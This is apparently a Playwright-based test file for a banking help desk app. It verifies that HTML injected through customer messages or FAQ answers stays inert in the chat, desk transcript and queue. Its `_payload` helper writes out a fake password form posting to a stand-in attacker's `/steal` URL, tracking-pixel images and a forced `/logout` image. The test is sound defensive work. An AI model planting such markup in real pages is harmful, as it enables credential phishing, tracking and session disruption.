"""Injected HTML in a real browser: customer text and FAQ answers cannot make a form, load an image or sign out.

Headless Debian Chromium against `findesk serve` (fixtures from test_browser.py). A listener on another
loopback port stands for the attacker's server: no payload may make the browser contact it, and the pages
keep working under the Content-Security-Policy without contacting anything but FinDesk.
"""

from __future__ import annotations

import random
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest

from tests.ui.test_browser import PASSWORD, WAIT_MS, _ask, _chat_page, _login, _wait_for_reply, browser, server

__all__ = ["browser", "server"]  # fixtures shared with test_browser.py
pytestmark = [pytest.mark.browser, pytest.mark.slow]


class _Listener(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's naming
        _Listener.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_args: object) -> None:
        pass


@pytest.fixture(scope="module")
def attacker() -> Iterator[str]:
    """The attacker's server: http://127.0.0.1:<port>; `_Listener.hits` lists every request it got."""
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Listener)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()


def _payload(attacker: str, marker: str) -> str:
    return (f'{marker} <form action="{attacker}/steal"><input type="password" name="pw"><button>Verify</button>'
            f'</form> ![x](/logout) <img src="{attacker}/pixel.gif"> ![p]({attacker}/md.gif)')  # fmt: skip


def _assert_inert(page, where: str, attacker: str) -> None:  # noqa: ANN001 - a playwright page
    region = page.locator(where)
    assert region.locator('form:not([action="/logout"])').count() == 0, where  # our own sign-out button is one
    assert region.locator("input[type=password]").count() == 0, where
    assert region.locator(f'img[src^="{attacker}"]').count() == 0, where
    assert region.locator('a[href$="/logout"]').count() == 0, where


def _watch(page, server: str) -> list[str]:  # noqa: ANN001
    """Every URL the page requests that is not FinDesk's own, and every Content-Security-Policy complaint
    (Gradio refusing to work under the policy would show up here)."""
    seen: list[str] = []
    page.on("request", lambda r: None if r.url.startswith((server, "data:", "blob:")) else seen.append(r.url))
    page.on("console", lambda m: seen.append(m.text) if "Content Security Policy" in m.text else None)
    return seen


def test_customer_payloads_are_inert_in_chat_desk_summary_and_queue(browser, server: str, attacker: str) -> None:  # noqa: ANN001
    _Listener.hits.clear()
    marker = f"vault{random.randint(1000, 9999)}"
    customer = _chat_page(browser, server)
    foreign = _watch(customer, server)
    _ask(customer, _payload(attacker, marker))
    customer.locator("#chat").get_by_text(marker, exact=False).first.wait_for(timeout=WAIT_MS)
    customer.locator("#chat").get_by_text(re.compile("Sources|Details")).first.wait_for(timeout=WAIT_MS)  # replied
    customer.click("#talk-to-person")
    _wait_for_reply(customer, "reply here")
    customer.locator("#chat").get_by_text('<input type="password"', exact=False).first.wait_for(timeout=WAIT_MS)
    _assert_inert(customer, "#chat", attacker)

    desk = _login(browser, server, "/desk/", "alice")
    foreign += _watch(desk, server)
    # The queue table holds the customer's words (maybe scrolled out of view when the queue is long).
    desk.get_by_text(marker, exact=False).first.wait_for(state="attached", timeout=WAIT_MS)
    desk.locator("#desk-picker input").click()
    desk.get_by_role("option").filter(has_text=marker).first.click()
    desk.locator("#desk-transcript").get_by_text(marker, exact=False).first.wait_for(timeout=WAIT_MS)
    desk.wait_for_timeout(1500)  # a tracking pixel or a sign-out image would have loaded by now
    _assert_inert(desk, "body", attacker)  # transcript, handoff summary, queue table and picker
    assert desk.locator("#desk-transcript").get_by_text("![x](/logout)", exact=False).count() >= 1

    desk.reload()
    desk.locator("#desk-picker").wait_for(timeout=WAIT_MS)
    assert "/desk/" in desk.url  # still signed in: the customer's ![x](/logout) did nothing
    assert _Listener.hits == [] and foreign == []
    desk.close()
    customer.close()


def test_faq_answer_with_html_is_inert_in_the_chat(browser, server: str, attacker: str) -> None:  # noqa: ANN001
    _Listener.hits.clear()
    marker = f"locker{random.randint(1000, 9999)}"
    with httpx.Client(base_url=server, headers={"Origin": server}) as operator:
        operator.post("/login", data={"username": "olga", "password": PASSWORD, "next": "/console/"})
        created = operator.post("/api/faq", json={
            "question": f"How do I open my safe deposit {marker}?",
            "answer": f"Open **Lockers** in the app. {_payload(attacker, marker)} [Help](https://bank.example/help)",
            "category": "accounts", "language": "en"})  # fmt: skip
        assert created.status_code == 201, created.text
    page = _chat_page(browser, server)
    foreign = _watch(page, server)
    _ask(page, f"How do I open my safe deposit {marker}?")
    _wait_for_reply(page, "Lockers")
    page.wait_for_timeout(1000)
    _assert_inert(page, "#chat", attacker)
    assert page.locator("#chat strong").filter(has_text="Lockers").count() >= 1  # Markdown still renders
    assert page.locator('#chat a[href="https://bank.example/help"]').count() >= 1  # so do safe links
    assert _Listener.hits == [] and foreign == []
    page.close()
